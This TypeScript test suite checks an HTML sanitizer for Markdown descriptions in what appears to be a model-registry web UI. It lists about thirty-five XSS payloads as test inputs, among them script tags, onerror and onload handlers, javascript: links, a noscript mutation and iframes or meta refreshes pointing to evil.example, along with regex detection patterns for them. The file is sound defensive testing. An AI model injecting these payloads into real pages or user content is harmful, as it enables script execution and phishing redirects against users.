import assert from 'node:assert/strict';
import { renderMarkdown } from '../../src/pages/markdown';
import { FIXTURE_2, readJson } from '../helpers/fixtures';

interface Expected {
  registered_models: { name: string; description: string | null; versions: { version: string; description: string | null }[] }[];
}

const expected = readJson<Expected>(FIXTURE_2.expected);
const model = (name: string) => expected.registered_models.find((m) => m.name === name)!;

/** What must never come out, whatever came in. */
const FORBIDDEN: [string, RegExp][] = [
  ['a <script> element', /<script/i],
  ['an event-handler attribute', /\son[a-z]+\s*=/i],
  ['a javascript: URL', /javascript\s*:/i],
  ['a vbscript: URL', /vbscript\s*:/i],
  ['a data:text/html URL', /data:text\/html/i],
  ['an <svg> element', /<svg/i],
  ['a <math> element', /<math/i],
  ['a <style> element', /<style/i],
  ['a style attribute', /\sstyle\s*=/i],
  ['an <iframe>', /<iframe/i],
  ['an <object>', /<object/i],
  ['an <embed>', /<embed/i],
  ['a <form>', /<form/i],
  ['a <link>', /<link/i],
  ['a <meta>', /<meta/i],
  ['a <base>', /<base/i],
  ['an srcset or formaction', /\s(srcset|formaction|xlink:href)\s*=/i],
];

const HOSTILE: [string, string][] = [
  ['script tag', '<script>alert(1)</script>'],
  ['script tag, odd case and attributes', '<ScRiPt type="text/javascript" src="https://evil.example/x.js"></sCrIpT>'],
  ['script inside markdown emphasis', '**<script>alert(1)</script>**'],
  ['img onerror', '<img src="x" onerror="alert(1)">'],
  ['img onerror, unquoted', '<img src=x onerror=alert(1)//>'],
  ['body onload', '<body onload="alert(1)">'],
  ['div onmouseover', '<div onmouseover="alert(1)">hover</div>'],
  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>s</summary></details>'],
  ['javascript: markdown link', '[click me](javascript:alert(1))'],
  ['javascript: with entities', '[x](jav&#x61;script:alert(1))'],
  ['javascript: with whitespace', '<a href=" javascript:alert(1)">x</a>'],
  ['javascript: html link', '<a href="JAVASCRIPT:alert(1)">x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data:text/html markdown link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data:text/html html link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['data:text/html image', '![x](data:text/html,<script>alert(1)</script>)'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['svg onload', '<svg onload="alert(1)"><circle r="4"/></svg>'],
  ['svg image in img', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['math with xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['style element', '<style>body { background: url(https://evil.example/track) }</style>'],
  ['style attribute', '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['form with formaction', '<form action="https://evil.example"><button formaction="javascript:alert(1)">go</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['base href', '<base href="https://evil.example/">'],
  ['img srcset', '<img src="https://ok.example/a.png" srcset="javascript:alert(1)">'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['unclosed attribute', '<img src="https://ok.example/a.png" alt="x" onerror="alert(1)" '],
  ['html comment trick', '<!--><script>alert(1)</script>-->'],
  ['fixture: empty-model description', model('empty-model').description!],
];

/** The real tags of the output: hostile text may remain as escaped, inert text, never as markup. */
const markup = (out: string) => (out.match(/<[^>]*>/g) ?? []).join('\n');

describe('Markdown descriptions: rendered with marked, sanitized to an allowlist', () => {
  for (const [what, input] of HOSTILE) {
    it(`removes the danger from: ${what}`, () => {
      const out = renderMarkdown(input);
      for (const [name, pattern] of FORBIDDEN) assert.doesNotMatch(markup(out), pattern, `${name} survived in ${JSON.stringify(out)}`);
      // Script bodies, styles and frames go with their element; nothing is left to run.
      if (/<(script|style|iframe)/i.test(input) && !/unclosed|noscript|comment/.test(what))
        assert.doesNotMatch(out, /alert\(|evil\.example\/track/, `the element's content survived: ${out}`);
    });
  }

  it("keeps the fixture's empty-model description readable: bold, text, unicode, and the link's text without its target", () => {
    const out = renderMarkdown(model('empty-model').description);
    assert.match(out, /<h3>Empty model<\/h3>/, "headings go below the page's own h1/h2");
    assert.match(out, /<b>bold<\/b>/);
    assert.match(out, /<a title="Link target removed[^"]*">click me<\/a>/);
    assert.match(out, /Ünïcødé ✓ 模型 🚀/);
    assert.doesNotMatch(out, /alert|xss|<img|<script|onerror=/i, 'nothing of the script, the handler or the link target is left');
  });

  it('keeps GFM tables with their alignment', () => {
    const out = renderMarkdown(model('iris-classifier').description);
    assert.match(out, /<table>\s*<thead>\s*<tr>\s*<th align="right">Version<\/th>/);
    assert.match(out, /<td align="right">0\.01<\/td>/);
    assert.equal((out.match(/<tr>/g) ?? []).length, 4, 'a header row and three body rows');
  });

  it('keeps fenced code, escaped, with its language class', () => {
    const out = renderMarkdown('```html\n<script>alert(1)</script>\n```');
    assert.match(out, /<pre><code class="language-html">&lt;script&gt;alert\(1\)&lt;\/script&gt;\n<\/code><\/pre>/);
    const iris = renderMarkdown(model('iris-classifier').description);
    assert.match(iris, /<pre><code class="language-python">import mlflow/);
  });

  it('drops code classes that are not a language', () => {
    assert.doesNotMatch(renderMarkdown('<code class="x language-py evil">a</code>'), /class="[^"]*(x|evil)/);
  });

  it('keeps http and https links, and only those', () => {
    const out = renderMarkdown(
      '[docs](https://mlflow.org/docs/latest/model-registry.html) [plain](http://example.com/a?b=1&c=2) [mail](mailto:a@b.c) [rel](./x) [ui](#/experiments/1)',
    );
    assert.match(out, /<a href="https:\/\/mlflow\.org\/docs\/latest\/model-registry\.html">docs<\/a>/);
    assert.match(out, /<a href="http:\/\/example\.com\/a\?b=1&amp;c=2">plain<\/a>/);
    assert.match(out, /<a title="Link target removed[^"]*">mail<\/a>/);
    assert.match(out, /<a title="Link target removed[^"]*">rel<\/a>/);
    assert.match(out, /<a title="Link target removed[^"]*">ui<\/a>/);
  });

  it('keeps images from https and raster data: URLs only', () => {
    const out = renderMarkdown('![a](https://example.com/a.png) ![b](http://example.com/b.png) ![c](data:image/png;base64,iVBORw0KGgo=) ![d](./d.png)');
    assert.match(out, /<img data-remote-src="https:\/\/example\.com\/a\.png" alt="a" \/>/, 'an https image waits for remoteImages.ts');
    assert.match(out, /<img src="data:image\/png;base64,iVBORw0KGgo=" alt="c" \/>/);
    assert.doesNotMatch(out, /b\.png|d\.png/);
  });

  it('keeps task lists as disabled checkboxes, and no other input', () => {
    const out = renderMarkdown('- [x] done\n- [ ] todo\n\n<input type="text" value="x"><input type="checkbox" onclick="alert(1)">');
    assert.match(out, /<input type="checkbox" disabled checked \/> done/);
    assert.match(out, /<input type="checkbox" disabled \/> todo/);
    assert.doesNotMatch(out, /type="text"|onclick/);
  });

  it('renders every description in the fixture without forbidden output', () => {
    for (const m of expected.registered_models) {
      for (const text of [m.description, ...m.versions.map((v) => v.description)]) {
        const out = renderMarkdown(text);
        for (const [name, pattern] of FORBIDDEN) assert.doesNotMatch(markup(out), pattern, `${name} in ${m.name}`);
      }
    }
  });

  it('gives an empty string for no description', () => {
    assert.equal(renderMarkdown(null), '');
    assert.equal(renderMarkdown('   \n'), '');
  });
});
